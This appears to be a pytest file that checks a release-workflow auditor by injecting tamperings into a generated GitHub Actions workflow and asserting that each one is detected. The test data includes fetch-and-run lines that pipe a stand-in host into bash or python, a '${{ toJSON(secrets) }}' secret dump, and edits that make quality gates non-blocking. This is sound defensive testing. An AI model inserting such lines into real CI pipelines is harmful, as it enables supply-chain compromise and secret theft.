"""The invariants every release workflow keeps, on the generated one and its tamperings."""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tagship.config import TagshipConfig
from tagship.diagnose import workflow_invariants as invariants
from tagship.diagnose import workflow_rules
from tagship.rules import Finding
from tagship.workflow import release_yml, spec_for
from tests.diagnose.tampering import GATE_LINE, TAMPERINGS, VERIFY_STEP, tampered

GENERATED = release_yml(
    spec_for("v$version", TagshipConfig(), pythons=("3.9", "3.12"), tagship_python="3.12")
)
RULES: dict[str, Callable[[Any], Finding]] = {
    "TS450": invariants.blocking_steps,
    "TS451": invariants.no_secrets,
    "TS452": invariants.no_downloads,
    "TS422": workflow_rules.permissions,
}


def _findings(text: str) -> dict[str, Finding]:
    workflow = workflow_rules.load(text)
    return {rule: check(workflow) for rule, check in RULES.items()}


def test_the_generated_workflow_keeps_every_invariant() -> None:
    assert {rule: f.status for rule, f in _findings(GENERATED).items()} == dict.fromkeys(
        RULES, "passed"
    )


MORE = {
    "gate may fail": ("    steps:\n", "    continue-on-error: true\n    steps:\n", "TS450"),
    "set +e": (GATE_LINE, "set +e; " + GATE_LINE, "TS450"),
    "gate skipped": (
        "      - name: Run the quality gates\n",
        "      - name: Run the quality gates\n        if: false\n",
        "TS450",
    ),
    "verify removed": ("tagship verify", "echo verify", "TS450"),
    "wget into bash": ("run: uv build", "run: wget -qO- https://x.example/i | bash", "TS452"),
    "process substitution": ("run: uv build", "run: bash <(curl -s https://x.example)", "TS452"),
    "curl into python": ("run: uv build", "run: curl -s https://x.example | python3 -", "TS452"),
    "indexed secret": ("${{ github.token }}", "${{ secrets['PAT'] }}", "TS451"),
    "verify step if": (VERIFY_STEP, VERIFY_STEP + "        if: always()\n", "TS450"),
    "gate under a shell without -e": (
        "        run: |\n          " + GATE_LINE + "\n",
        "        shell: bash {0}\n        run: |\n          "
        + GATE_LINE
        + "\n          echo done\n",
        "TS450",
    ),
    "gate under a job default shell without -e": (
        "      - name: Run the quality gates\n        run: |\n          " + GATE_LINE + "\n",
        "      - name: Run the quality gates\n        run: |\n          " + GATE_LINE + "\n"
        "          echo done\n    defaults:\n      run:\n        shell: sh {0}\n",
        "TS450",
    ),
    "downloaded to a file, then run": (
        "run: uv build",
        "run: curl -sSfo i.sh https://x.example/i && sh i.sh && uv build",
        "TS452",
    ),
    "wget, then bash": ("run: uv build", "run: wget https://x.example/i.sh; bash i.sh", "TS452"),
    "all secrets as JSON": ("${{ github.token }}", "${{ toJSON(secrets) }}", "TS451"),
}


@pytest.mark.parametrize(
    ("shell", "after"),
    [
        ("bash", "echo done"),
        ("sh", "echo done"),
        ("bash -e {0}", "echo done"),
        ("bash --noprofile --norc -eo pipefail {0}", "echo done"),
        ("bash {0}", ""),
        ("bash {0}", "# a comment"),
    ],
)
def test_a_shell_that_stops_or_a_last_gate_line_keeps_the_gate_blocking(
    shell: str, after: str
) -> None:
    old = "        run: |\n          " + GATE_LINE + "\n"
    new = f"        shell: {shell}\n        run: |\n          {GATE_LINE}\n          {after}\n"
    assert old in GENERATED
    assert _findings(GENERATED.replace(old, new, 1))["TS450"].status == "passed"


@pytest.mark.parametrize("name", sorted({**TAMPERINGS, **MORE}))
def test_each_tampering_breaks_its_invariant(name: str) -> None:
    old, new, rule = {**TAMPERINGS, **MORE}[name]
    assert old in GENERATED, old
    finding = _findings(GENERATED.replace(old, new, 1))[rule]
    assert finding.status == "failed", finding
    assert finding.fix
    assert "\n" not in finding.message


def test_tampered_helper_replaces_once() -> None:
    assert tampered(GENERATED, "gate replaced by true").count(GATE_LINE) == 0


def test_zizmor_comes_from_tagships_environment_not_path(tmp_path: Path) -> None:
    """Doctor audits the workflows with no virtualenv active (zizmor is in the dev group)."""
    found = workflow_rules.zizmor_bin(tmp_path)
    assert found == str(Path(sys.executable).parent / "zizmor")
    assert Path(found).is_file()
